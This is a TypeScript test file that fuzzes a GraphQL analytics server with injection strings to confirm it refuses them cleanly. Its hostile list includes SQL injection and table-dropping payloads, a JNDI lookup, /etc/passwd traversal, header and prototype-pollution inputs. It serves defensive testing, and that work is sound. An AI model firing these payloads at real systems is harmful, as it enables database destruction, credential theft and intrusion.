import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadSamples } from "../support/sample-server.js";
import { spawnServer, type SpawnedServer } from "../support/spawn-server.js";
import { callOf, introspect, rootFields, stringPlaces, valueFor, type Schema } from "./schema-walk.js";
import { codeOf, createKey, csv, expectServing, gql, LEAK, login, OCTOBER, send, signIn, type Answer } from "./support.js";

// A hostile string in every string argument of every query and mutation, and
// in every string field of the input objects they take, found by walking the
// live schema: new arguments are covered without touching this file. Each
// answer is a clean refusal (4xx, or BAD_USER_INPUT / PAYLOAD_TOO_LARGE) or an
// ordinary answer that shows nothing it should not; afterwards every table
// still holds what it held.

const HOSTILE: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "BF') UNION ALL SELECT password_hash, login FROM users --",
  "\\'; SELECT * FROM system.tables; --",
  "{login:String}",
  "') SETTINGS max_execution_time = 0, readonly = 0 --",
  "BF\u0000\u0001\u001f",
  "\ud800",
  "𝕏😀\u202e\u200b",
  "<script>alert(1)</script>",
  "${jndi:ldap://example.invalid/a}",
  "../../../../etc/passwd",
  "%s%s%n%x",
  '=HYPERLINK("http://example.invalid")',
  "A".repeat(10_000),
  "",
  " ",
  "-".repeat(36),
  "\\",
  '"',
  "\r\nSet-Cookie: corridor_session=stolen",
  "null",
  "1e309",
];
/** The few sent written inline in the document as well (a GraphQL string literal, not a variable). */
const INLINE = ["' OR '1'='1", "'; DROP TABLE users; --", '"', "\\", "\ud800", "BF\u0000"];

/** Codes a hostile string may earn (as an administrator, who may call everything). */
const CLEAN_CODES = new Set(["BAD_USER_INPUT", "PAYLOAD_TOO_LARGE", "GRAPHQL_PARSE_FAILED", "GRAPHQL_VALIDATION_FAILED", "OPERATION_RESOLUTION_FAILURE", "BAD_REQUEST"]);

const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "corridor-injection-"));
let server: SpawnedServer;
let admin: string;
let schema: Schema;
let adminKey: string;

/** Answers that must not change, whatever was sent: the reference lists and the samples' figures. */
const SNAPSHOT = `query($p: PeriodInput!) {
  countries { code nameFr nameEn aes } offices { code name country kind } routes { code offices km } terminals { code cargo }
  taxCodes { code revenue } feeCodes { code shipFee } hsSections { section firstChapter lastChapter } hsChapters { chapter section }
  overview(period: $p) { kpis { measure statistic value } }
  countryFigures(period: $p) { countries { country tonnes { value } cifValue { value } customsRevenue { value } portCharges { value } portDwellP50 { value } } }
  guaranteeSavings(period: $p) { totals { declarations cifXof savingXof } }
  tariffScenario(period: $p, bands: [{ fromRate: 0.1, toRate: 0.15 }]) { totals { dutyChangeXof } }
  metrics(query: { measures: [{ measure: TONNES }, { measure: CIF_VALUE }], dimensions: [CONSIGNEE], period: $p }) { rows { dimensions { value } cells { value } } }
  revenue: metrics(query: { measures: [{ measure: CUSTOMS_REVENUE }], dimensions: [COUNTRY, TAX_CODE], period: $p }) { rows { dimensions { value } cells { value } } }
}`;
let before: unknown;

beforeAll(async () => {
  await loadSamples(dataDir);
  server = await spawnServer({ DATA_DIR: dataDir, INBOX_POLL_MS: "0", API_RATE_PER_MINUTE: "1000000", API_RATE_BURST: "1000000" });
  admin = await signIn(server.url);
  schema = await introspect(server.url, { cookie: admin });
  adminKey = (await createKey(server.url, { cookie: admin }, "avant")).key;
  const snapshot = await gql(server.url, SNAPSHOT, { p: OCTOBER }, { cookie: admin });
  expect(snapshot.body?.errors).toBeUndefined();
  before = snapshot.body?.data;
}, 180_000);
afterAll(async () => {
  await server?.stop();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

/** Every string in a parsed answer, with the hostile string (and the 40-character prefix error messages quote) taken out. */
function strangerText(answer: Answer, hostile: string): string {
  const forms = [hostile, JSON.stringify(hostile).slice(1, -1), hostile.slice(0, 40), JSON.stringify(hostile.slice(0, 40)).slice(1, -1)].filter((f) => f.length >= 4).sort((a, b) => b.length - a.length);
  // Its words too: a stored file name keeps them with the punctuation replaced.
  forms.push(...new Set(hostile.match(/[A-Za-z_]{4,}/gu) ?? []));
  const strings: string[] = [];
  const collect = (value: unknown) => {
    if (typeof value === "string") strings.push(value);
    else if (Array.isArray(value)) value.forEach(collect);
    else if (value !== null && typeof value === "object") Object.values(value).forEach(collect);
  };
  collect(answer.body ?? answer.text);
  return strings.map((s) => forms.reduce((text, form) => text.split(form).join(""), s)).join("\n");
}

/** A clean answer: no 5xx, only codes a client may act on, no SQL or engine text, no stored secret. */
function expectClean(answer: Answer, hostile: string, what: string): void {
  expect(answer.status, `${what}: ${answer.text.slice(0, 300)}`).toBeLessThan(500);
  expect(answer.body, `${what}: not JSON: ${answer.text.slice(0, 200)}`).not.toBeNull();
  for (const error of answer.body?.errors ?? []) expect(CLEAN_CODES.has(error.extensions?.code ?? ""), `${what}: ${JSON.stringify(error).slice(0, 300)}`).toBe(true);
  if (answer.status >= 400) expect(answer.body?.data ?? null, what).toBeNull();
  expect(strangerText(answer, hostile), what).not.toMatch(LEAK);
}

describe("an injection string in every string argument", () => {
  it("the schema has the string arguments this test is about", () => {
    const places = rootFields(schema).flatMap(({ field }) => stringPlaces(field, schema).map((p) => `${field.name}.${[p.arg.name, ...p.path].join(".")}`));
    // A sample of what the walk must find; new arguments join these on their own.
    for (const place of ["metrics.query.timeZone", "metrics.query.period.from", "metrics.query.filters.0.values.0", "overview.countries.0", "tariffScenario.chapters.0.chapter", "auditLog.login", "offices.country", "hsChapters.section", "createUser.input.password", "createApiKey.input.forLogin", "revokeApiKey.id", "uploadFile.fileName"]) {
      expect(places).toContain(place);
    }
  });

  it("GraphQL: each answer is a clean refusal or an ordinary answer, never a 5xx, an internal error or a leak", async () => {
    const failures: string[] = [];
    let sent = 0;
    for (const { operation, field } of rootFields(schema)) {
      for (const place of stringPlaces(field, schema)) {
        for (const hostile of HOSTILE) {
          for (const inline of INLINE.includes(hostile) ? [false, true] : [false]) {
            const call = callOf(operation, field, schema, place, hostile, inline);
            const answer = await gql(server.url, call.query, call.variables, { cookie: admin });
            sent++;
            const what = `${field.name}(${[place.arg.name, ...place.path].join(".")}${inline ? ", inline" : ""}) = ${JSON.stringify(hostile.slice(0, 40))}`;
            try {
              expectClean(answer, hostile, what);
              // A hostile filter never widens a list: the lists filtered by a string hold nothing for it.
              const data = answer.body?.data as Record<string, unknown> | null | undefined;
              if (operation === "query" && Array.isArray(data?.[field.name]) && ["offices", "hsChapters", "auditLog"].includes(field.name)) {
                expect((data?.[field.name] as unknown[]).length, what).toBe(0);
              }
            } catch (error) {
              failures.push(`${what}\n    → ${answer.status} ${answer.text.slice(0, 240)}`);
              void error;
            }
          }
        }
      }
    }
    console.log(`injection: ${sent} GraphQL requests, ${failures.length} unclean`);
    if (process.env.INJECTION_REPORT) fs.writeFileSync(process.env.INJECTION_REPORT, failures.join("\n"));
    expect(failures, failures.join("\n")).toEqual([]);
    await expectServing(server, admin);
  }, 300_000);

  it("CSV export: each string of the query body, and the language, get a clean answer", async () => {
    const inputType = schema.types.get("MetricQueryInput");
    if (!inputType) throw new Error("no MetricQueryInput");
    const places = stringPlaces({ name: "csv", args: [{ name: "query", type: { kind: "NON_NULL", name: null, ofType: { kind: "INPUT_OBJECT", name: "MetricQueryInput", ofType: null } }, defaultValue: null }], type: { kind: "SCALAR", name: "String", ofType: null } }, schema);
    expect(places.length).toBeGreaterThanOrEqual(4);
    const failures: string[] = [];
    for (const hostile of HOSTILE) {
      for (const place of places) {
        const query = valueFor(place.arg.type, schema, "csv", "query", place.path, hostile);
        const answer = await csv(server.url, query, { bearer: adminKey });
        const what = `csv ${place.path.join(".")} = ${JSON.stringify(hostile.slice(0, 40))}`;
        try {
          expect(answer.status, what).toBeLessThan(500);
          if (answer.status !== 200) expectClean(answer, hostile, what);
          else expect(answer.headers.get("content-type"), what).toBe("text/csv; charset=utf-8");
        } catch {
          failures.push(`${what}\n    → ${answer.status} ${answer.text.slice(0, 240)}`);
        }
      }
      const language = await csv(server.url, { measures: [{ measure: "TONNES" }], period: OCTOBER }, { bearer: adminKey }, hostile);
      if (language.status !== 200) failures.push(`csv language = ${JSON.stringify(hostile.slice(0, 40))} → ${language.status} ${language.text.slice(0, 200)}`);
    }
    expect(failures, failures.join("\n")).toEqual([]);
    await expectServing(server, admin);
  }, 120_000);

  it("sign-in: a hostile login or password gets a 4xx, never a session", async () => {
    for (const hostile of HOSTILE) {
      for (const [name, password] of [
        [hostile, "correct horse battery staple"],
        ["admin", hostile],
      ] as const) {
        const answer = await login(server.url, name, password);
        // 413: the sign-in body is capped at 4 kB; 429: ten wrong passwords for one login from one address stop the guessing for a while.
        expect([400, 401, 413, 429], `${JSON.stringify(name.slice(0, 40))} / ${JSON.stringify(password.slice(0, 40))}`).toContain(answer.status);
        expect(answer.headers.get("set-cookie")).toBeNull();
        expect(answer.text).not.toMatch(LEAK);
      }
    }
    await expectServing(server, admin);
  }, 120_000);

  it("afterwards, every table holds what it held: reference lists, figures, accounts and keys", async () => {
    const after = await gql(server.url, SNAPSHOT, { p: OCTOBER }, { cookie: admin });
    expect(after.body?.errors).toBeUndefined();
    expect(after.body?.data).toEqual(before);
    // The administrator, its key made before, and the accounts the hostile strings created, all still there.
    expect((await gql(server.url, "{ me { login role } }", {}, { bearer: adminKey })).body?.data).toEqual({ me: { login: "admin", role: "ADMIN" } });
    const users = await gql<{ users: { login: string }[] }>(server.url, "{ users { login } }", {}, { cookie: admin });
    expect(users.body?.data?.users.map((u) => u.login)).toContain("admin");
    const keys = await gql<{ apiKeys: { name: string }[] }>(server.url, "{ apiKeys { name } }", {}, { cookie: admin });
    expect(keys.body?.data?.apiKeys.map((k) => k.name)).toContain("avant");
    const audit = await gql<{ auditLog: unknown[] }>(server.url, "{ auditLog(limit: 5) { login } }", {}, { cookie: admin });
    expect(audit.body?.data?.auditLog).toHaveLength(5);
    expect((await send(server.url, "healthz")).status).toBe(200);
    expect(server.process.exitCode).toBeNull();
  });
});

describe("hostile strings outside arguments", () => {
  it("as an operation name, a variable name or an alias, they are refused cleanly", async () => {
    for (const hostile of ["' OR 1=1", "a; DROP TABLE users", "__proto__", "constructor"]) {
      const byName = await send(server.url, "graphql", { method: "POST", headers: { "content-type": "application/json", cookie: admin }, body: JSON.stringify({ query: "query A { me { login } }", operationName: hostile }) });
      expectClean(byName, hostile, `operationName ${hostile}`);
      const variables = await send(server.url, "graphql", { method: "POST", headers: { "content-type": "application/json", cookie: admin }, body: JSON.stringify({ query: "{ me { login } }", variables: { [hostile]: hostile, ["__proto__"]: { admin: true } } }) });
      expectClean(variables, hostile, `variables ${hostile}`);
      expect(variables.body?.data).toEqual({ me: { login: "admin" } });
    }
    const proto = await send(server.url, "graphql", { method: "POST", headers: { "content-type": "application/json", cookie: admin }, body: '{"query":"query($q: MetricQueryInput!) { metrics(query: $q) { truncated } }","variables":{"q":{"__proto__":{"limit":99999},"measures":[{"measure":"TONNES"}],"period":{"from":"2024-10-01","to":"2024-11-01"}}}}' });
    expectClean(proto, "__proto__", "a __proto__ key in an input object");
    expect(codeOf(proto) ?? "none").not.toBe("INTERNAL_SERVER_ERROR");
    await expectServing(server, admin);
  });
});
